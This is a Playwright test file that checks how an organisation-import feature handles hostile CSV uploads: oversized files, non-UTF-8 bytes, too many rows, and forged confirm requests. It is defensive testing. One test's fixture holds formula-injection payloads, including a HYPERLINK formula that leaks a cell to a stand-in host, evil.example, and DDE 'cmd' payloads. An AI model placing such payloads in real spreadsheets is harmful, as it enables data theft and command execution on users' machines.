// Hostile files to the import: a 50 MB file, spreadsheet formulas, bytes that are not UTF-8,
// 10,000 rows, and confirms forged for another coordinator's import or another community.
// Each is answered with a plain, translated message (never a 5xx), nothing is written that
// the preview did not show, and what a file said is only ever shown or downloaded as text.
import { expect, test, type APIRequestContext } from '@playwright/test';
import * as devalue from 'devalue';
import Papa from 'papaparse';
import { strings } from '../support/messages';
import { sql } from './db';
import { bristol, personAs, shown, type Mode } from './hostile';

test.use({ javaScriptEnabled: false });
test.setTimeout(300_000);

const en = strings('en');
const manchester = '22222222-2222-4222-8222-222222222222';
const header = 'name,summary,area,email';

/** Uploads a file as the form does: as a browser without JavaScript ('html'), or as use:enhance ('json'). */
async function upload(request: APIRequestContext, buffer: Buffer, mode: Mode, community = bristol, fileName = 'groups.csv') {
	const response = await request.post('/organise/import?/preview', {
		multipart: { community, file: { name: fileName, mimeType: 'text/csv', buffer } },
		headers: mode === 'json' ? { accept: 'application/json', 'x-sveltekit-action': 'true' } : { accept: 'text/html' },
		maxRedirects: 0
	});
	const status = response.status();
	if (mode === 'html') return { status, location: response.headers().location, html: status < 300 || status >= 400 ? await response.text() : '' };
	const body = await response.json();
	return { status: body.status ?? status, type: body.type, location: body.location, data: body.data ? devalue.parse(body.data) : undefined };
}
const staged = (userId: string | null) => sql<{ id: string; rows: unknown[] }>('select id, rows from public.organisation_imports where created_by = $1 order by created_at', [userId]);

test('a 50 MB file is refused before it is read, with its size and what to do, and the server carries on', async ({ page, playwright }) => {
	const person = await personAs(playwright, 'coordinator');
	const huge = Buffer.alloc(50 * 1024 * 1024, 'a,');
	for (const mode of ['html', 'json'] as const) {
		const answer = await upload(person.request, huge, mode);
		expect(answer.status, mode).toBe(413);
		if (answer.html !== undefined) {
			const seen = await shown(page, answer.html, [{ field: 'file', key: 'import.errors.fileTooLarge' }]);
			expect(seen.messages[0].byField).toBe(true);
			expect(answer.html).toContain('This file is 50 MB, more than the 500 KB we can take.');
		} else expect(answer.data).toMatchObject({ errors: { file: 'import.errors.fileTooLarge' }, values: { size: '50 MB' } });
	}
	// Just over the limit too; and the server still answers everyone.
	const over = await upload(person.request, Buffer.alloc(600 * 1024, 'b'), 'json');
	expect(over).toMatchObject({ status: 413, data: { errors: { file: 'import.errors.fileTooLarge' } } });
	expect((await person.request.get('/organise/import')).status()).toBe(200);
	expect(await staged(person.id)).toEqual([]);
});

test('a formula in a cell is shown and downloaded as plain text, never as a formula', async ({ page, playwright }) => {
	const person = await personAs(playwright, 'coordinator');
	const formulas = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=1+1'];
	const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
	const rows = [
		// Each formula as a name with no summary (a problem: in the download), and as a summary of a row that can be added.
		...formulas.map((f) => `${quote(f)},,,x@example.org`),
		`Formula Summary Group,${quote(formulas[0])},,formula@example.org`
	];
	const answer = await upload(person.request, Buffer.from([header, ...rows].join('\n')), 'html');
	expect(answer.status).toBe(303);
	await page.context().addCookies(await person.request.storageState().then((s) => s.cookies));
	await page.goto(answer.location!);
	for (const f of formulas) await expect(page.getByRole('heading', { name: `Row ${formulas.indexOf(f) + 2}: ${f}`, exact: true })).toBeVisible();
	await expect(page.getByText(en.get('import.notes.formula')!).first()).toBeVisible();

	// The rows with problems, downloaded again: every cell that would run as a formula starts with a quote.
	const download = await person.request.get(`${answer.location}/problems.csv`);
	expect(download.headers()['content-type']).toBe('text/csv; charset=utf-8');
	const cells = Papa.parse<string[]>(await download.text(), { skipEmptyLines: true }).data.flat();
	expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
	for (const f of formulas) expect(cells).toContain(`'${f}`);

	// Added and confirmed, the summary is text on the listing's page.
	await page.getByRole('button', { name: 'Add these organisations' }).click();
	const [{ id }] = await sql<{ id: string }>(`select id from public.helpers where display_name = 'Formula Summary Group' and user_id = $1`, [person.id]);
	await page.getByRole('button', { name: 'Confirm Formula Summary Group' }).click();
	await page.goto(`/near-me/${id}`);
	await expect(page.getByText(formulas[0], { exact: true })).toBeVisible();
});

test('bytes that are not UTF-8 are shown as � and flagged, never a 5xx; a file that is not text is refused plainly', async ({ page, playwright }) => {
	const person = await personAs(playwright, 'coordinator');
	const latin1 = Buffer.concat([Buffer.from(`${header}\nCaf`), Buffer.from([0xe9]), Buffer.from(' Bristol,We help people online.,,cafe@example.org\nGood Group,We help people online.,,good@example.org\n')]);
	const broken = Buffer.concat([Buffer.from(`${header}\n`), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x90, 0x28, 0xbc]), Buffer.from(',x,,\n')]);
	for (const file of [latin1, broken]) {
		for (const mode of ['html', 'json'] as const) {
			const answer = await upload(person.request, file, mode);
			expect(answer.status).toBeLessThan(500);
			expect(answer.status).toBe(303);
		}
	}
	const answer = await upload(person.request, latin1, 'html');
	await page.context().addCookies(await person.request.storageState().then((s) => s.cookies));
	await page.goto(answer.location!);
	await expect(page.getByRole('alert').filter({ hasText: 'Some characters in this file could not be read' })).toBeVisible();
	await expect(page.getByRole('heading', { name: 'Row 2: Caf\ufffd Bristol' })).toBeVisible();
	await expect(page.getByText(en.get('import.problems.unreadable')!)).toBeVisible();
	await expect(page.getByText('1 organisation ready to add')).toBeVisible();
	// The row with unreadable characters is never written, even when the coordinator adds the rest.
	await page.getByRole('button', { name: 'Add these organisations' }).click();
	expect((await sql(`select display_name from public.helpers where user_id = $1`, [person.id])).map((r) => r.display_name)).toEqual(['Good Group']);

	// UTF-16 (as some spreadsheets save "Unicode text"), a zip, random bytes: refused or shown, never a 5xx.
	const utf16 = Buffer.from(`\ufeff${header}\nGroup,We help people online.,,g@example.org\n`, 'utf16le');
	const zip = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]);
	for (const file of [utf16, zip]) {
		const refused = await upload(person.request, file, 'json');
		expect(refused).toMatchObject({ status: 400, data: { errors: { file: 'import.errors.notText' } } });
	}
	const random = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));
	expect((await upload(person.request, random, 'html')).status).toBeLessThan(500);
});

test('10,000 rows are refused at once with the limit, 1,000 are read a page at a time', async ({ page, playwright }) => {
	const person = await personAs(playwright, 'coordinator');
	const rows = (n: number) => Buffer.from([header, ...Array.from({ length: n }, (_, i) => `Group ${i},We help people online.,,g${i}@example.org`)].join('\n'));
	// Short rows, so 10,000 of them fit under the size limit: the count is what is refused.
	const many = Buffer.from(['name', ...Array.from({ length: 10_000 }, (_, i) => `G${i}`)].join('\n'));
	expect(many.length).toBeLessThan(500 * 1024);
	const refused = await upload(person.request, many, 'html');
	expect(refused.status).toBe(400);
	expect(refused.html).toContain('This file has more than 1000 organisations. Split it into files of 1000 or fewer and import each one.');
	expect(await staged(person.id)).toEqual([]);

	const answer = await upload(person.request, rows(1000), 'html');
	expect(answer.status).toBe(303);
	await page.context().addCookies(await person.request.storageState().then((s) => s.cookies));
	await page.goto(answer.location!);
	await expect(page.getByText('1000 organisations ready to add')).toBeVisible();
	await expect(page.getByText('Page 1 of 20')).toBeVisible();
	await expect(page.getByRole('heading', { name: /^Row \d+:/ })).toHaveCount(50);
	await page.getByRole('button', { name: 'Add these organisations' }).click();
	await expect(page.getByText('1000 organisations added. They wait for confirmation below.')).toBeVisible();
	await expect(page.getByText('Showing the first 50. Confirm these to see the rest.')).toBeVisible();
	expect((await sql<{ n: number }>(`select count(*)::int as n from public.helpers where user_id = $1 and awaiting_confirmation`, [person.id]))[0].n).toBe(1000);
});

test('a forged confirm writes nothing: not another coordinator\'s import, not into another community, not rows of its own', async ({ playwright }) => {
	const owner = await personAs(playwright, 'coordinator');
	const answer = await upload(owner.request, Buffer.from(`${header}\nOwned Group,We help people online.,,owned@example.org\n`), 'html');
	const importId = answer.location!.split('/').pop()!;
	// A coordinator of Manchester only.
	const other = await personAs(playwright, 'member');
	await sql(`update public.community_members set community_id = $1, role = 'coordinator' where user_id = $2`, [manchester, other.id]);
	const member = await personAs(playwright, 'member');
	const organiser = await personAs(playwright, 'organiser');
	for (const who of [other, member, organiser]) {
		const forged = await who.request.post(`/organise/import/${importId}?/add`, { form: { duplicates: 'add' }, headers: { accept: 'text/html' }, maxRedirects: 0 });
		expect(forged.status()).toBeGreaterThanOrEqual(400);
		expect(forged.status()).toBeLessThan(500);
		expect((await who.request.get(`/organise/import/${importId}`)).status()).toBeLessThan(500);
		expect(await who.request.get(`/organise/import/${importId}/problems.csv`).then((r) => r.status())).toBe(404);
	}
	// Uploading into a community they do not coordinate is refused by the field.
	for (const [who, community] of [[other, bristol], [member, bristol], [owner, manchester]] as const) {
		const refused = await upload(who.request, Buffer.from(`${header}\nSneaky Group,We help people online.,,s@example.org\n`), 'json', community);
		expect(refused).toMatchObject({ status: 400, data: { errors: { community: 'import.errors.chooseCommunity' } } });
	}
	// Rows or a community sent with the confirm are not read: only what the preview showed is written, where it said.
	const confirmed = await owner.request.post(`/organise/import/${importId}?/add`, {
		form: { duplicates: 'skip', community: manchester, rows: JSON.stringify([{ listing: { display_name: 'Smuggled Group' } }]) },
		headers: { accept: 'text/html' },
		maxRedirects: 0
	});
	expect(confirmed.status()).toBe(303);
	expect(await sql(`select display_name, community_id from public.helpers where user_id = any($1) order by display_name`, [[owner.id, other.id, member.id, organiser.id]])).toEqual([
		{ display_name: 'Owned Group', community_id: bristol }
	]);
	// Used up: confirming again adds nothing more.
	const again = await owner.request.post(`/organise/import/${importId}?/add`, { form: { duplicates: 'skip' }, headers: { accept: 'text/html' }, maxRedirects: 0 });
	expect(again.status()).toBe(409);
	expect((await sql<{ n: number }>(`select count(*)::int as n from public.helpers where user_id = $1`, [owner.id]))[0].n).toBe(1);
});
